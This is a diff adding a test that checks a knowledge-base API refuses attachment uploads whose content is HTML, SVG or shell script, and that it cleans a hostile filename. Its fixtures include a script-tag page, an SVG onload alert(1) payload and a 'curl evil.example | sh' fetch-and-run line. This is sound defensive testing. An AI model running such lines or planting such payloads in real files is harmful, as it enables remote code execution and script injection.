@@ -186,3 +186,22 @@ def test_ten_edits_of_one_version_at_once_save_one_and_refuse_nine(live):  # noq
             assert conflict["stored"]["body"] == winner and conflict["yours"]["body"].startswith("Edit ")
         history = http.get(f"{url}/versions", headers=headers).json()
         assert [v["version"] for v in history] == [2, 1] and history[0]["body"] == winner
+
+
+def test_html_svg_and_scripts_are_no_plain_text_and_names_end_as_their_type(client, kb, tmp_path):
+    item = _item(client, kb)
+    url = f"/api/v1/knowledge/{item['id']}/attachments"
+    h = kb["h"]["owner"]
+    for name, content, found in (("report.pdf", b"<html><body><script>fetch('/x')</script></body></html>", "HTML"),
+                                 ("logo.txt", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "SVG"),
+                                 ("notes.txt", b"#!/bin/sh\ncurl evil.example | sh\n", "script")):
+        refused = client.post(url, files={"file": (name, content)}, headers=h)
+        assert refused.status_code == 422 and found in refused.text, (name, refused.text)
+        assert refused.json()["error"]["problems"][0]["field"] == "file"
+    for name in ("report.pdf", "page.html", "run.bat", "setup.hta"):
+        refused = client.post(url, files={"file": (name, b"Plain meeting notes.")}, headers=h)
+        assert refused.status_code == 422 and "name it .txt" in refused.text, (name, refused.text)
+    saved = client.post(url, files={"file": ("\u202eCON\x85", b"Plain meeting notes.")}, headers=h)
+    assert saved.status_code == 201 and saved.json()["filename"] == "_CON.txt", saved.text
+    # Nothing of the refused uploads was kept.
+    assert len([p for p in tmp_path.rglob("*") if p.is_file() and len(p.name) == 32]) == 1
